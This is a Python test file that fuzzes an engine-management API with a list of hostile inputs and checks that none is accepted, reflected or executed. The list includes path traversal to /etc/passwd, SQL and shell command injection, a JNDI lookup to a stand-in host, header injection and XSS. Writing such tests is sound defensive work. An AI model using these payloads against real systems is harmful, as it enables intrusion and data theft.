"""Texts that want to be something else where they arrive: a path, an option, a header, a query, a line of a log."""

from __future__ import annotations

import json
from typing import Final
from urllib.parse import quote

import pytest

from protocol.ids import valid_engine_id
from tests.attack.target import Target

EVIL: Final = [
    "..", ".", "../..", "../../etc/passwd", "..\\..\\windows", "....//....//", "/etc/passwd", "//etc/passwd", "%2e%2e%2f",
    "..%2f..%2f", "..;/", "a/../b", "a//b", "~root", "file:///etc/passwd", "a\0b", "a\r\nX-Evil: yes\r\n\r\n", "a\nb",
    "a\u2028b", "a\x1b[2Jb", "\u202etxt.exe", "' OR '1'='1", "'; DROP TABLE events; --", '" OR ""="', "1; ATTACH 'x' AS y",
    "%' AND 1=1 --", "a_b%c", "*", "?", "[a-z]", "$(touch pwned)", "`touch pwned`", "| touch pwned", "&& touch pwned",
    "${jndi:ldap://evil.example/a}", "{{7*7}}", "{0.__class__}", "%s%s%s%n", "<script>alert(1)</script>", "--help", "-rf",
    "--", "__proto__", "constructor", "None", "null", "NaN", "true", "0", "-1", "9" * 100, "x" * 200, "\U0001f9e8", "é",
    "e\u0301", "ſ", "İ", "\ufeffa", " a", "a ", "\t", "data:text/html,x", "javascript:alert(1)",
]  # fmt: skip

LIKE_ROUTES: Final = [
    "commands",
    "events",
    "runs",
    "state",
    "engines",
    "pools",
    "health",
    "keys",
    "openapi.json",
    "admin",
    "api",
]

FILTERS: Final = [
    "/api/v1/engines?pool={}", "/api/v1/engines?kind={}", "/api/v1/engines?label=a:{}", "/api/v1/engines?label={}",
    "/api/v1/engines?cursor={}", "/api/v1/engines?state={}", "/api/v1/engines?limit={}", "/api/v1/engines?{}=1",
    "/api/v1/runs?engine={}", "/api/v1/runs?pool={}", "/api/v1/runs?cursor={}", "/api/v1/requests?pool={}",
    "/api/v1/requests?cursor={}", "/api/v1/dead-letters?cursor={}", "/api/v1/events?types={}", "/api/v1/events?pool={}",
    "/api/v1/events?slices={}", "/api/v1/events?after={}", "/api/v1/admin/audit?principal={}",
    "/api/v1/admin/audit?engine={}", "/api/v1/admin/audit?cursor={}", "/api/v1/engines/injected/state?at={}",
    "/api/v1/engines/injected/history?page={}",
]  # fmt: skip

PATHS: Final = [
    "/api/v1/engines/{}", "/api/v1/engines/{}/state", "/api/v1/engines/injected/state/{}", "/api/v1/engines/{}/events",
    "/api/v1/engines/injected/commands/{}", "/api/v1/runs/{}", "/api/v1/runs/{}/output", "/api/v1/runs/{}/events",
    "/api/v1/commands/{}", "/api/v1/requests/{}", "/api/v1/pools/{}", "/api/v1/kinds/{}", "/docs/{}", "/{}",
]  # fmt: skip

NAMES: Final = {text for text in EVIL if valid_engine_id(text)}
"""Those of them that are names like any other."""

REFUSED: Final = {400, 404, 410, 414, 422}


def escaped(text: str) -> str:
    return quote(text, safe="", errors="surrogatepass")


SHARE = pytest.mark.parametrize("share", [5, pytest.param(1, marks=pytest.mark.torture)], ids=["small", "large"])
"""Each template gets one in so many of the texts, and each a different part of them."""


@SHARE
@pytest.mark.parametrize("template", PATHS)
async def test_no_path_leads_out_of_its_place(shared: Target, template: str, share: int) -> None:
    await shared.ask("PUT", "/api/v1/engines/injected", {"kind": "probe"})
    for evil in EVIL[PATHS.index(template) % share :: share]:
        answer = await shared.ask("GET", template.format(escaped(evil)), None, "Accept: application/json")
        assert answer.status in REFUSED, evil
        assert b"root:" not in answer.body
        assert answer.header("x-evil") is None


@SHARE
@pytest.mark.parametrize("template", FILTERS)
async def test_a_filter_finds_what_it_names_and_nothing_else(shared: Target, template: str, share: int) -> None:
    await shared.ask("PUT", "/api/v1/engines/injected", {"kind": "probe"})
    for evil in EVIL[FILTERS.index(template) % share :: share]:
        answer = await shared.ask("GET", template.format(escaped(evil)), None, "Accept: application/json")
        assert answer.status in {200, *REFUSED}, evil
        plain = evil in {"0", "-1", "true", "null"} or "{}=" in template
        if answer.status == 200 and not plain and "after=" not in template:
            assert answer.json.get("items") == [], f"{evil!r} found something"


async def test_no_evil_text_becomes_an_engine_id_or_a_pool(shared: Target) -> None:
    for evil in EVIL:
        if evil not in NAMES:
            assert (await shared.ask("POST", "/api/v1/engines", {"kind": "probe", "id": evil})).status == 422, evil
            assert (await shared.ask("POST", "/api/v1/pools", {"id": evil})).status == 422, evil
        assert (await shared.ask("POST", "/api/v1/engines", {"kind": evil})).status == 422, evil
        assert (await shared.ask("POST", "/api/v1/engines", {"kind": "probe", "pool": evil})).status in REFUSED, evil


async def test_an_engine_that_is_called_like_a_route_is_an_engine(shared: Target) -> None:
    for name in LIKE_ROUTES:
        made = await shared.ask("POST", "/api/v1/engines", {"kind": "probe", "id": name})
        assert made.status == 201
        assert made.header("location") == f"/api/v1/engines/{name}"
        found = await shared.ask("GET", f"/api/v1/engines/{name}")
        assert (found.status, found.json["id"]) == (200, name)
        assert (await shared.ask("DELETE", f"/api/v1/engines/{name}")).json["leaks"] == []


async def test_what_may_be_any_text_comes_back_as_that_text(shared: Target) -> None:
    """Labels, reasons, holders, keys: kept, shown, filtered by, and never more than text."""
    await shared.ask("POST", "/api/v1/pools", {"id": "texts", "template": {"kind": "probe"}, "max_engines": 1000})
    for evil in EVIL:
        engine = await shared.engine(labels={"evil": evil})
        shown = (await shared.ask("GET", f"/api/v1/engines/{engine}")).json
        assert shown["labels"] == {"evil": evil}
        query = f"label={escaped('evil:' + evil)}&limit=1000"
        answer = await shared.ask("GET", f"/api/v1/engines?{query}")
        assert answer.status == 200, (evil, answer.body)
        found = answer.json["items"]
        assert [item["id"] for item in found] == [engine], evil
        held = await shared.ask(
            "POST", f"/api/v1/engines/{engine}/commands", {"type": "pause", "reason": evil}, "Prefer: wait=10"
        )
        assert held.status == 200, held.body
        assert [hold["reason"] for hold in (await shared.ask("GET", f"/api/v1/engines/{engine}")).json["holds"]] == [
            evil
        ]
        keyed = await shared.ask("PUT", f"/api/v1/pools/texts/engines/{escaped(evil)}")
        assert keyed.status in {200, 201, 404, 422, 400}, evil
        if keyed.status == 201:
            assert keyed.header("location") == f"/api/v1/engines/{keyed.json['id']}"


@pytest.mark.parametrize(
    "header",
    ["Idempotency-Key", "X-Request-Id", "Last-Event-ID", "Prefer", "Range", "Accept", "X-Forwarded-For", "User-Agent"],
)
async def test_a_header_of_any_text_harms_nobody(shared: Target, header: str) -> None:
    await shared.ask("PUT", "/api/v1/engines/injected", {"kind": "probe"})
    for evil in EVIL:
        line = f"{header}: {''.join(char for char in evil if char.isprintable()).strip() or 'x'}"
        body = {"input": "x"} if header == "Idempotency-Key" else None
        path = "/api/v1/engines/injected/runs" if body else "/api/v1/events?after=0&limit=1"
        accept = [] if header == "Accept" else ["Accept: application/json"]
        if header == "Accept":
            path = "/api/v1/engines/injected"
        answer = await shared.ask("POST" if body else "GET", path, body, line, *accept)
        assert answer.status in {200, 202, 204, *REFUSED}, evil
        assert answer.header("x-evil") is None


async def test_the_log_has_one_json_object_a_line_whatever_is_in_it(shared: Target) -> None:
    engine = await shared.engine(labels={"evil": "a\nb\x1b[2J"})
    await shared.ask("POST", f"/api/v1/engines/{engine}/commands", {"type": "signal", "name": "crash"})
    for line in shared.log.splitlines():
        assert isinstance(json.loads(line), dict)
        assert not set(line) & {0x1B, 0x07, 0x08, 0x0D}


async def test_nothing_was_run_by_any_of_it(shared: Target) -> None:
    assert not list(shared.daemon.state.parent.rglob("pwned"))
    await shared.well()
